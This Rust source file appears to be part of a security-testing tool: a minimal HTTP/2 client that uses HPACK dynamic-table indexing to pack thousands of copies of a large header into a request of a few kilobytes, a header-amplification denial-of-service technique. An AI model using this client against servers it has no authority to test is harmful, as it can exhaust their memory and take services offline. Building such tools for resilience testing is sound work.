//! A minimal HTTP/2 client (RFC 9113). A request of this client can contain thousands of copies of a header,
//! although the request needs only a few kilobytes on the network.
//!
//! HPACK (RFC 7541) stores a header of up to 4 KB in a dynamic table. After the first copy of the header, each
//! further copy takes one byte.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
};

use super::{AttackResult, TIMEOUT};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const GO_AWAY: u8 = 7;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;
/// The HPACK byte for `:status: 200`, from the static table.
const STATUS_200: u8 = 0x88;
/// The HPACK byte for the newest header in the dynamic table.
const NEWEST: u8 = 0x80 | 62;

/// A header of which a request contains many copies.
#[derive(Clone, Debug)]
pub struct Repeated {
    /// The index of the header's name in HPACK's static table.
    pub name: u8,
    /// The value of the header, with up to 4,000 bytes.
    pub value: String,
    /// The number of copies of the header in the request.
    pub times: usize,
}

/// The index of `accept` in HPACK's static table.
pub const ACCEPT: u8 = 19;
/// The index of `cookie` in HPACK's static table.
pub const COOKIE: u8 = 32;

/// A connection without TLS on which the client sends HTTP/2 immediately (prior knowledge).
#[derive(Debug)]
pub struct Connection {
    stream: TcpStream,
    next_id: u32,
}

impl Connection {
    /// Connects to a server.
    ///
    /// # Errors
    ///
    /// Returns an error if the server does not accept the connection.
    pub fn open(to: SocketAddr) -> AttackResult<Self> {
        let stream = TcpStream::connect(to)?;
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(TIMEOUT))?;
        let mut connection = Self { stream, next_id: 1 };
        connection.stream.write_all(PREFACE)?;
        connection.write_frame(SETTINGS, 0, 0, &[])?;
        Ok(connection)
    }

    /// Sends a GET request, and returns whether the status of the response is 200.
    ///
    /// # Errors
    ///
    /// Returns an error if the server resets the stream or the connection.
    pub fn get(&mut self, path: &str, repeated: Option<&Repeated>) -> AttackResult<bool> {
        let id = self.next_id;
        self.next_id += 2;
        // The static table has `GET`, `http`, and the names `:path` and `:authority`, so the client sends only their
        // indexes. The client sends the values of the path and the authority as text that HPACK does not store.
        let mut block = vec![0x82, 0x86, 0x04];
        write_text(&mut block, path);
        block.push(0x01);
        write_text(&mut block, "attack");
        if let Some(Repeated { name, value, times }) = repeated {
            block.push(0x40 | name);
            write_text(&mut block, value);
            block.resize(block.len() + times.saturating_sub(1), NEWEST);
        }
        self.write_frame(HEADERS, END_HEADERS | END_STREAM, id, &block)?;
        self.read_response(id)
    }

    fn read_response(&mut self, id: u32) -> AttackResult<bool> {
        let mut is_ok = false;
        loop {
            let mut head = [0; 9];
            self.stream.read_exact(&mut head)?;
            let [a, b, c, kind, flags, stream @ ..] = head;
            let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
            self.stream.read_exact(&mut payload)?;
            match kind {
                SETTINGS if flags & ACK == 0 => self.write_frame(SETTINGS, ACK, 0, &[])?,
                GO_AWAY | RESET => {
                    return Err("the server reset the stream or the connection".into());
                }
                HEADERS | DATA if u32::from_be_bytes(stream) == id => {
                    is_ok |= kind == HEADERS && payload.first() == Some(&STATUS_200);
                    if flags & END_STREAM != 0 {
                        return Ok(is_ok);
                    }
                }
                _ => {}
            }
        }
    }

    fn write_frame(&mut self, kind: u8, flags: u8, stream: u32, payload: &[u8]) -> AttackResult {
        let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
        let mut frame = vec![a, b, c, kind, flags];
        frame.extend(stream.to_be_bytes());
        frame.extend(payload);
        Ok(self.stream.write_all(&frame)?)
    }
}

/// Writes a text without Huffman coding: first the number of bytes as an integer with a 7-bit prefix, and then the
/// bytes.
fn write_text(block: &mut Vec<u8>, text: &str) {
    const PREFIX: usize = 127;
    if text.len() < PREFIX {
        block.push(text.len() as u8);
    } else {
        block.push(PREFIX as u8);
        let mut rest = text.len() - PREFIX;
        while rest >= 128 {
            block.push((rest % 128) as u8 | 128);
            rest /= 128;
        }
        block.push(rest as u8);
    }
    block.extend(text.as_bytes());
}
